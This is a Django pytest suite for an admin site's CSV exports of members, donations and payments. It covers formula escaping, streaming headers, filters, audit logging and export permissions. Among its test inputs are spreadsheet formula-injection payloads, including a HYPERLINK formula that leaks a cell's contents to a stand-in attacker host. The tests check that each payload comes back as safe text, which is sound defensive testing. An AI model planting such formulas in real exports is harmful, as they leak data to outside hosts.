"""CSV exports of members, donations and payments from the admin lists: what each file holds,
that hostile names and addresses come back exactly and never as formulas, that the list's
filters, search and ordering apply, that every export is recorded, who may export, and that the
work does not grow with the rows."""

import csv
import io
import logging
from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.auth.models import Permission
from django.core.exceptions import ValidationError
from django.core.validators import validate_email
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from members.models import DataExport, Donation, Membership, Payment, User
from tests import corpus
from tests.factories import MembershipFactory, PlanFactory, PriceFactory, UserFactory
from tests.html import parse

pytestmark = pytest.mark.django_db

MEMBERS = "/admin/members/membership/export/"
DONATIONS = "/admin/members/donation/export/"
PAYMENTS = "/admin/members/payment/export/"

MEMBER_HEADER = [
    "email",
    "first name",
    "last name",
    "plan",
    "interval",
    "currency",
    "status",
    "member since",
    "renews or ends",
    "renews",
    "total paid",
    "language",
]

# What a spreadsheet takes for the start of a formula (written out here, not imported).
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "-1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    'Smith, "Jo"',
    "two\nlines",
    "carriage\r\nreturn",
    "'quoted already",
]


def download(client, url):
    """The export's response and its file's text (the whole stream consumed)."""
    response = client.get(url)
    assert response.status_code == 200, response
    return response, b"".join(response.streaming_content).decode("utf-8")


def table(text):
    """The file's rows (header first), read as a spreadsheet's CSV import reads them."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def as_dicts(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def shown_as(value):
    """What a cell holding `value` must read: the value, made text when it looks like a
    formula."""
    return "'" + value if value.startswith(FORMULA) else value


def corpus_addresses():
    """The is_email addresses Django's EmailField accepts and stores (quoted local parts with
    quotes and backslashes, IP literals, control-picture symbols…; at most 254 characters), one
    per address ignoring case."""
    max_length = User._meta.get_field("email").max_length
    seen, addresses = set(), []
    for case in corpus.isemail_cases():
        address = case["address"]
        if len(address) > max_length:
            continue
        try:
            validate_email(address)
        except ValidationError:
            continue
        if address.lower() not in seen:
            seen.add(address.lower())
            addresses.append(address)
    return addresses


def members_with(names, addresses=(), **membership):
    """A subscription for each name (first name; the next name is the last name), bulk
    created; returns the users."""
    price = PriceFactory()
    users = User.objects.bulk_create(
        User(
            email=addresses[i] if i < len(addresses) else f"reader{i}@example.com",
            first_name=name[:150],
            last_name=names[(i + 1) % len(names)][:150],
            language="ru" if i % 2 else "en",
            password="!",
        )
        for i, name in enumerate(names)
    )
    Membership.objects.bulk_create(
        Membership(
            user=user,
            plan=price.plan,
            price=price,
            status=Membership.Status.ACTIVE,
            stripe_subscription_id=f"sub_export_{user.pk}",
            current_period_end=timezone.now() + timedelta(days=20),
            started_at=timezone.now() - timedelta(days=10),
            **membership,
        )
        for user in users
    )
    return users


# What the files hold ---------------------------------------------------------------------------


def test_naughty_names_and_corpus_addresses_come_back_exactly_and_never_as_formulas(
    client, superuser
):
    # NUL cannot be stored by PostgreSQL, and no form of the site accepts it.
    names = [s for s in corpus.naughty_strings() if "\0" not in s] + HOSTILE_NAMES
    addresses = corpus_addresses()
    assert len(addresses) > 30
    users = members_with(names, addresses)
    client.force_login(superuser)

    response, text = download(client, MEMBERS)

    rows = table(text)
    assert rows[0] == MEMBER_HEADER
    exported = {row["email"]: row for row in as_dicts(rows)}
    assert len(exported) == len(users) == len(rows) - 1
    for user in users:
        row = exported[shown_as(user.email)]
        assert row["first name"] == shown_as(user.first_name), repr(user.first_name)
        assert row["last name"] == shown_as(user.last_name), repr(user.last_name)
        assert row["language"] == user.language
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), repr(cell)


def test_formulas_quotes_and_line_breaks_are_made_safe_text(client, superuser):
    members_with(HOSTILE_NAMES)
    client.force_login(superuser)

    _, text = download(client, MEMBERS)

    first_names = {row["email"]: row["first name"] for row in as_dicts(table(text))}
    assert first_names["reader0@example.com"] == (
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    )
    assert first_names["reader1@example.com"] == "'+1"
    assert first_names["reader2@example.com"] == "'-1"
    assert first_names["reader3@example.com"] == "'@SUM(1+1)"
    assert first_names["reader4@example.com"] == "'\t=1+1"
    assert first_names["reader5@example.com"] == "'\r=1+1"
    assert first_names["reader6@example.com"] == "'＝1+1"
    assert first_names["reader7@example.com"] == 'Smith, "Jo"'
    assert first_names["reader8@example.com"] == "two\nlines"
    assert first_names["reader9@example.com"] == "carriage\r\nreturn"
    assert first_names["reader10@example.com"] == "'quoted already"
    # RFC 4180 quoting, as written: quotes doubled inside a quoted field, line ends kept inside.
    assert '"Smith, ""Jo"""' in text
    assert '"two\nlines"' in text
    assert '"carriage\r\nreturn"' in text


def test_the_members_file_has_plan_dates_renewal_and_what_each_membership_paid(client, superuser):
    yearly = PriceFactory(amount=6000, interval="year", currency="usd")
    started = datetime(2026, 3, 1, 21, 0, tzinfo=UTC)  # 2 March, 01:00 in Tbilisi
    renewal = datetime(2027, 3, 1, 21, 0, tzinfo=UTC)
    renewing = MembershipFactory(
        user=UserFactory(email="renewing@example.com", first_name="Nino", language="ka"),
        price=yearly,
        started_at=started,
        current_period_end=renewal,
    )
    for n, (amount, refunded, status) in enumerate(
        [(6000, 0, "paid"), (6000, 1250, "partially_refunded"), (6000, 0, "disputed")]
    ):
        Payment.objects.create(
            stripe_id=f"in_renewing_{n}",
            user=renewing.user,
            membership=renewing,
            amount=amount,
            amount_refunded=refunded,
            currency="usd",
            kind="membership",
            status=status,
            paid_at=started + timedelta(days=365 * n),
        )
    MembershipFactory(
        user=UserFactory(email="leaving@example.com"),
        started_at=started,
        current_period_end=renewal,
        cancel_at_period_end=True,
    )
    ended = datetime(2026, 9, 30, 12, 0, tzinfo=UTC)
    MembershipFactory(
        user=UserFactory(email="gone@example.com"),
        status="canceled",
        started_at=started,
        current_period_end=ended,
        canceled_at=ended,
        ended_at=ended,
    )
    Membership.objects.create(
        user=UserFactory(email="press@example.com"),
        plan=PlanFactory(),
        kind="complimentary",
        status="complimentary",
        started_at=started,
        complimentary_until=datetime(2026, 12, 31, 20, 0, tzinfo=UTC),
    )
    client.force_login(superuser)

    _, text = download(client, MEMBERS)

    rows = {row.pop("email"): row for row in as_dicts(table(text))}
    assert rows["renewing@example.com"] == {
        "first name": "Nino",
        "last name": "",
        "plan": "Supporter",
        "interval": "yearly",
        "currency": "USD",
        "status": "active",
        "member since": "2026-03-02",
        "renews or ends": "2027-03-02",
        "renews": "yes",
        # 60.00 + (60.00 − 12.50); the disputed payment is not counted.
        "total paid": "107.50",
        "language": "ka",
    }
    assert (
        rows["leaving@example.com"]["renews or ends"],
        rows["leaving@example.com"]["renews"],
    ) == (
        "2027-03-02",
        "no",
    )
    assert rows["leaving@example.com"]["total paid"] == "0.00"
    assert [rows["gone@example.com"][k] for k in ("status", "renews or ends", "renews")] == [
        "canceled",
        "2026-09-30",
        "no",
    ]
    assert [
        rows["press@example.com"][k]
        for k in ("plan", "interval", "currency", "status", "renews or ends", "renews")
    ] == ["Supporter", "", "", "complimentary", "2027-01-01", "no"]


def test_the_donations_and_payments_files(client, superuser):
    donor = UserFactory(email="donor@example.com", first_name="@Tamar", language="ru")
    monthly = Donation.objects.create(
        user=donor, amount=1000, currency="eur", recurring=True, status="active"
    )
    one_off = Donation.objects.create(
        email="-guest@example.com", amount=2500, currency="usd", status="paid"
    )
    paid = datetime(2026, 5, 10, 8, 30, tzinfo=UTC)
    for n in range(2):
        Payment.objects.create(
            stripe_id=f"in_monthly_{n}",
            user=donor,
            donation=monthly,
            amount=1000,
            amount_refunded=300 * n,
            currency="eur",
            kind="donation",
            status="partially_refunded" if n else "paid",
            paid_at=paid + timedelta(days=31 * n),
        )
    Payment.objects.create(
        stripe_id="pi_one_off",
        donation=one_off,
        amount=2500,
        currency="usd",
        kind="donation",
        paid_at=paid - timedelta(hours=1),
    )
    client.force_login(superuser)

    _, donations = download(client, DONATIONS)
    _, payments = download(client, PAYMENTS)

    rows = {row["email"]: row for row in as_dicts(table(donations))}
    assert rows["donor@example.com"] == {
        "date": timezone.localtime(monthly.created).strftime("%Y-%m-%d %H:%M"),
        "email": "donor@example.com",
        "first name": "'@Tamar",
        "last name": "",
        "amount": "10.00",
        "currency": "EUR",
        "one-off or monthly": "monthly",
        "status": "active",
        "total paid": "17.00",
        "language": "ru",
    }
    assert rows["'-guest@example.com"]["one-off or monthly"] == "one-off"
    assert rows["'-guest@example.com"]["total paid"] == "25.00"
    assert rows["'-guest@example.com"]["currency"] == "USD"
    assert table(payments)[0] == [
        "paid at",
        "Stripe id",
        "email",
        "kind",
        "amount",
        "refunded",
        "currency",
        "status",
    ]
    assert as_dicts(table(payments)) == [
        {
            "paid at": "2026-06-10 12:30",
            "Stripe id": "in_monthly_1",
            "email": "donor@example.com",
            "kind": "donation",
            "amount": "10.00",
            "refunded": "3.00",
            "currency": "EUR",
            "status": "partially refunded",
        },
        {
            "paid at": "2026-05-10 12:30",
            "Stripe id": "in_monthly_0",
            "email": "donor@example.com",
            "kind": "donation",
            "amount": "10.00",
            "refunded": "0.00",
            "currency": "EUR",
            "status": "paid",
        },
        {
            "paid at": "2026-05-10 11:30",
            "Stripe id": "pi_one_off",
            "email": "'-guest@example.com",
            "kind": "donation",
            "amount": "25.00",
            "refunded": "0.00",
            "currency": "USD",
            "status": "paid",
        },
    ]


# The response ---------------------------------------------------------------------------------


def test_the_export_is_a_private_streamed_attachment_named_by_the_day(client, superuser):
    members_with(["Ana", "Levan"])
    client.force_login(superuser)

    response = client.get(MEMBERS)

    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="members-{timezone.localdate():%Y-%m-%d}.csv"'
    )
    cache_control = {part.strip() for part in response["Cache-Control"].split(",")}
    assert {"private", "no-store"} <= cache_control
    assert b"".join(response.streaming_content).startswith(b"\xef\xbb\xbf")


def test_the_shared_page_cache_never_keeps_an_export(membership_manager):
    """A manager's browser without the signed-in marker goes through the page cache; the file
    must not be stored there and served to the next visitor."""
    members_with(["Ana", "Levan"])
    staff = Client()
    staff.force_login(membership_manager)
    _, text = download(staff, MEMBERS)
    assert "reader0@example.com" in text

    anonymous = Client().get(MEMBERS)

    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/admin/login/")


def test_the_query_count_does_not_grow_with_the_rows(client, superuser):
    client.force_login(superuser)

    def queries_for(count):
        User.objects.filter(is_superuser=False).delete()
        users = members_with([f"Name {i}" for i in range(count)])
        for user in users[:count:2]:
            Payment.objects.create(
                stripe_id=f"in_{user.pk}",
                user=user,
                membership=user.memberships.get(),
                amount=500,
                currency="eur",
                kind="membership",
                paid_at=timezone.now(),
            )
        with CaptureQueriesContext(connection) as queries:
            _, text = download(client, MEMBERS)
        assert len(table(text)) == count + 1
        return len(queries)

    assert queries_for(10) == queries_for(100)


# Filters, search, ordering and the record -----------------------------------------------------


def test_filters_and_search_apply_and_are_recorded(client, membership_manager, caplog):
    for email, status in [
        ("ana@example.com", "active"),
        ("levan@example.com", "canceled"),
        ("nino@example.org", "canceled"),
    ]:
        MembershipFactory(user=UserFactory(email=email), status=status)
    client.force_login(membership_manager)

    with caplog.at_level(logging.INFO, logger="members.exports"):
        response = client.get(MEMBERS + "?status__exact=canceled")
        record = DataExport.objects.get()
        assert (record.user, record.what, record.filters, record.rows) == (
            membership_manager,
            "members",
            "status__exact=canceled",
            None,  # the download has not finished
        )
        text = b"".join(response.streaming_content).decode()
    record.refresh_from_db()
    assert record.rows == 2
    assert sorted(row["email"] for row in as_dicts(table(text))) == [
        "levan@example.com",
        "nino@example.org",
    ]
    assert f"Data export {record.pk}: members.desk@example.com exports members" in caplog.text
    assert f"Data export {record.pk} finished: 2 members rows." in caplog.text

    _, text = download(client, MEMBERS + "?q=example.org&status__exact=canceled")
    assert [row["email"] for row in as_dicts(table(text))] == ["nino@example.org"]
    assert DataExport.objects.first().filters == "q=example.org&status__exact=canceled"


def test_the_lists_ordering_applies(client, superuser):
    for stripe_id in ["in_b", "in_c", "in_a"]:
        Payment.objects.create(
            stripe_id=stripe_id,
            amount=500,
            currency="eur",
            kind="membership",
            paid_at=timezone.now(),
        )
    client.force_login(superuser)

    # The list's columns are numbered from 0: 1 is the Stripe id.
    _, ascending = download(client, PAYMENTS + "?o=1")
    _, descending = download(client, PAYMENTS + "?o=-1")

    assert [row["Stripe id"] for row in as_dicts(table(ascending))] == ["in_a", "in_b", "in_c"]
    assert [row["Stripe id"] for row in as_dicts(table(descending))] == ["in_c", "in_b", "in_a"]


def test_filters_the_list_refuses_export_nothing(client, membership_manager):
    MembershipFactory()
    client.force_login(membership_manager)

    response = client.get(MEMBERS + "?current_period_end__gte=not-a-date", follow=True)

    assert response.redirect_chain == [("/admin/members/membership/", 302)]
    assert "Those filters do not apply to this list: nothing exported." in (
        [str(message) for message in response.context["messages"]]
    )
    assert not DataExport.objects.exists()


def test_the_exports_are_listed_read_only_for_the_desk(client, membership_manager, editor):
    DataExport.objects.create(user=membership_manager, what="payments", filters="kind__exact=x")
    client.force_login(membership_manager)
    assert client.get("/admin/members/dataexport/").status_code == 200
    record = DataExport.objects.get()
    page = client.get(f"/admin/members/dataexport/{record.pk}/change/")
    assert page.status_code == 200
    assert not parse(page).select("form#dataexport_form input[name='filters']")
    assert client.get("/admin/members/dataexport/add/").status_code == 403
    assert client.post(f"/admin/members/dataexport/{record.pk}/delete/").status_code == 403
    client.force_login(editor)
    assert client.get("/admin/members/dataexport/").status_code == 403


# Who may export -------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [MEMBERS, DONATIONS, PAYMENTS])
def test_only_the_membership_desk_and_superusers_export(
    client, url, contributor, editor, membership_manager, superuser
):
    for staff in (contributor, editor):
        client.force_login(staff)
        assert client.get(url).status_code == 403
    assert not DataExport.objects.exists()
    for allowed in (membership_manager, superuser):
        client.force_login(allowed)
        response = client.get(url)
        assert response.status_code == 200
        b"".join(response.streaming_content)
    assert DataExport.objects.count() == 2
    client.logout()
    anonymous = client.get(url)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/admin/login/")


@pytest.mark.parametrize("model", ["membership", "donation", "payment"])
def test_the_export_button_carries_the_lists_filters_and_needs_the_permission(client, model):
    viewer = UserFactory(email="viewer@example.com", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename=f"view_{model}"))
    client.force_login(viewer)
    page = client.get(f"/admin/members/{model}/?status__exact=paid")
    assert page.status_code == 200
    assert not parse(page).select(".object-tools a[href*='/export/']")
    assert client.get(f"/admin/members/{model}/export/").status_code == 403

    viewer.user_permissions.add(Permission.objects.get(codename="export_members"))
    client.force_login(viewer)
    page = client.get(f"/admin/members/{model}/?status__exact=paid")
    [link] = parse(page).select(".object-tools a[href*='/export/']")
    assert link.get_text(strip=True) == "Export CSV"
    assert link["href"] == f"/admin/members/{model}/export/?status__exact=paid"


def test_only_a_get_exports(client, superuser):
    client.force_login(superuser)
    assert client.post(MEMBERS).status_code == 405
    assert client.head(MEMBERS).status_code == 405
    assert not DataExport.objects.exists()
